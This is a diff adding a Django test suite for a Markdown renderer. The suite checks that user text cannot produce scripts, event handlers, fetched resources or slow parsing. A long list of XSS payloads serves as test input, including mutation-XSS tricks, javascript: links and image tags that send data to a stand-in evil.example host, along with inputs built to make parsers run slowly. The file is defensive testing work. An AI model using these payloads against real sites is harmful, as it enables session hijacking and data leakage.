@@ -1,0 +1,203 @@
+"""What anybody writes is shown as Markdown, and does nothing: no script, no style, nothing fetched, no long work."""
+
+from __future__ import annotations
+
+import time
+from html.parser import HTMLParser
+
+from django.test import SimpleTestCase
+from django.utils.safestring import SafeString
+
+from conversations.rendering import MAX_DELIMITERS, MAX_TEXT, TAGS, render_markdown
+
+# What the cheat sheets of the field try, in each place of a text that is not plain.
+SCRIPTS = (
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<img src='https://evil.example/?leak=1'>",
+    "<svg onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data='data:text/html,x'></object><embed src=x>",
+    "<body onload=alert(1)><details open ontoggle=alert(1)>",
+    "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
+    "<form action=//evil.example><button formaction=javascript:alert(1)>x</button><input autofocus onfocus=alert(1)>",
+    "<style>@import 'https://evil.example/x.css';</style><link rel=stylesheet href=//evil.example>",
+    "<p style='background:url(https://evil.example)'>x</p>",
+    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<video><source onerror=alert(1)></video><audio src=//evil.example>",
+    "<!--><script>alert(1)</script-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php echo 1 ?><!DOCTYPE x>",
+    '"><script>alert(1)</script>',
+    "'-alert(1)-'",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](java&#10;script:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](\\javascript:alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "[x]( javascript:alert(1) )",
+    "[x](\x01javascript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
+    "[x](//evil.example)",
+    "[x](/admin/logout/)",
+    "[x](\\\\evil.example)",
+    "[x](file:///etc/passwd)",
+    '[x](https://a.example"onmouseover=alert(1))',
+    "[x](https://a.example 'a\" onmouseover=alert(1) b=\"')",
+    '[x](https://a.example/"><script>alert(1)</script>)',
+    "[x]: javascript:alert(1)\n\n[x]",
+    "[x]: https://a.example '\"><script>alert(1)</script>'\n\n[x]",
+    "<javascript:alert(1)>",
+    "<https://a.example/onerror=alert(1)>",
+    "![x](https://evil.example/?q=secret)",
+    "![x](javascript:alert(1))",
+    "![x](data:image/svg+xml;base64,AAAA)",
+    '![x" onerror=alert(1)](https://evil.example/a.png)',
+    "![<script>alert(1)</script>](https://evil.example/a.png)",
+    "[![x](https://evil.example/a.png)](https://evil.example)",
+    "![x][r]\n\n[r]: https://evil.example/a.png",
+    "```html\n<script>alert(1)</script>\n```",
+    '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
+    "```python class=x onclick=alert(1)\nx\n```",
+    "`<script>alert(1)</script>`",
+    "    <script>alert(1)</script>",
+    "| <script>alert(1)</script> | b |\n|--|:-:|\n| <img src=x onerror=alert(1)> | x |",
+    "# <script>alert(1)</script>",
+    "> <script>alert(1)</script>",
+    "- <script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\u202e<script>\u2028alert(1)</script>",
+    "<script\x00>alert(1)</script>",
+    "\ud800<script>alert(1)</script>",
+    "＜script＞alert(1)＜/script＞",
+)
+ALLOWED = {"href", "title", "rel", "target", "class", "start"}
+
+
+class Strict(HTMLParser):
+    """Refuses every tag, attribute and address that is not expected."""
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        assert tag in TAGS, tag
+        given = {name: value or "" for name, value in attrs}
+        assert set(given) <= ALLOWED, given
+        assert "class" not in given or not set("<>\"'") & set(given["class"])
+        if tag == "a" and "href" in given:
+            assert given["href"].lower().startswith(("http://", "https://", "mailto:")), given
+        if tag == "a":
+            assert given["rel"] == "noopener noreferrer nofollow" and given["target"] == "_blank"
+
+    def handle_comment(self, data: str) -> None:
+        raise AssertionError("a comment")
+
+    def handle_decl(self, decl: str) -> None:
+        raise AssertionError("a declaration")
+
+    def handle_pi(self, data: str) -> None:
+        raise AssertionError("an instruction")
+
+
+def assert_harmless(html: str) -> None:
+    parser = Strict(convert_charrefs=True)
+    parser.feed(html)
+    parser.close()
+
+
+class SafetyTest(SimpleTestCase):
+    def test_no_text_becomes_anything_that_acts(self) -> None:
+        for script in SCRIPTS:
+            for text in (
+                script,
+                f"Hello {script} there",
+                f"**{script}**",
+                f"- a\n  - {script}\n",
+                f"[{script}](https://a.example)",
+            ):
+                with self.subTest(text=text):
+                    html = render_markdown(text)
+                    self.assertIsInstance(html, SafeString)
+                    assert_harmless(html)
+
+    def test_the_judge_of_these_tests_finds_what_it_looks_for(self) -> None:
+        for bad in (
+            "<script>",
+            "<p onclick=x>",
+            "<a href='javascript:x' rel=x>",
+            "<img src=x>",
+            "<!-- x -->",
+            "<p style=x>",
+        ):
+            with self.assertRaises((AssertionError, KeyError), msg=bad):
+                assert_harmless(bad)
+
+    def test_html_is_shown_as_it_was_typed(self) -> None:
+        self.assertEqual(render_markdown("<b>no</b>"), "<p>&lt;b&gt;no&lt;/b&gt;</p>\n")
+
+    def test_an_image_is_a_link_that_is_not_followed_by_itself(self) -> None:
+        html = render_markdown("![A *cat*](https://example.org/cat.png)")
+        self.assertIn('<a href="https://example.org/cat.png"', html)
+        self.assertNotIn("<img", html)
+        self.assertIn("A *cat*</a>", html)
+        self.assertEqual(render_markdown("![](https://example.org/cat.png)").count("https://example.org/cat.png"), 2)
+        self.assertEqual(render_markdown("[a ![b](https://b.example)](https://a.example)").count("<a "), 1)
+
+
+class MarkdownTest(SimpleTestCase):
+    def test_what_people_and_models_write(self) -> None:
+        html = render_markdown("# Title\n\n1. **one**\n2. ~~two~~\n\n> quote\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n")
+        for part in (
+            "<h1>Title</h1>",
+            "<strong>one</strong>",
+            "<s>two</s>",
+            "<blockquote>",
+            '<td class="align-right">2',
+        ):
+            self.assertIn(part, html)
+
+    def test_code_is_coloured_by_classes(self) -> None:
+        html = render_markdown('```python\ndef f() -> str:\n    return "<b>"\n```')
+        self.assertIn('<code class="language-python">', html)
+        self.assertIn('<span class="k">def</span>', html)
+        self.assertIn("&lt;b&gt;", html)
+        self.assertIn("<code>x &lt; y\n</code>", render_markdown("```nolanguage<\nx < y\n```"))
+
+    def test_the_empty_text(self) -> None:
+        self.assertEqual(render_markdown(""), "")
+
+
+class BoundTest(SimpleTestCase):
+    def test_too_much_is_shown_plain(self) -> None:
+        long = "word & " * (MAX_TEXT // 7 + 1)
+        self.assertEqual(render_markdown(long), f"<pre>{long.replace('&', '&amp;')}</pre>")
+        self.assertIn("<pre>", render_markdown("*a_" * (MAX_DELIMITERS // 2 + 1)))
+        self.assertIn("<em>", render_markdown("*a*\n\n" * 3_000))
+
+    def test_what_makes_parsers_slow_costs_little(self) -> None:
+        """Quadratic work on these would be minutes; the bound is generous because machines are busy."""
+        size = MAX_TEXT
+        blocks = {
+            "brackets": "[" * size, "stars": "*a " * (size // 3), "quotes": "> " * (size // 2), "items": "- " * size,
+            "ticks": "".join("`" * number + "a" for number in range(400)), "links": "[a](b" * (size // 5),
+            "comments": "<!--" * (size // 4), "pipes": "|a" * (size // 2), "references": "[a]: x\n" * (size // 7),
+            "just under": ("[" * (MAX_DELIMITERS - 1) + "\n\n") * (size // (MAX_DELIMITERS + 1)),
+            "both under": ("*a_" * (MAX_DELIMITERS // 2 - 1) + "\n\n") * (size // (MAX_DELIMITERS * 2)),
+            "scala": "```scala\n" + ("\\" * 400 + "\n" + "<" * 400 + "\n") * 20 + "```",
+            "python": "```python\n" + '"""\n' * 4_900 + "```",
+            "nested": "\n".join(" " * 2 * depth + "- a" for depth in range(300)),
+        }  # fmt: skip
+        for name, text in blocks.items():
+            with self.subTest(name):
+                began = time.process_time()
+                assert_harmless(render_markdown(text[:size]))
+                self.assertLess(time.process_time() - began, 10)
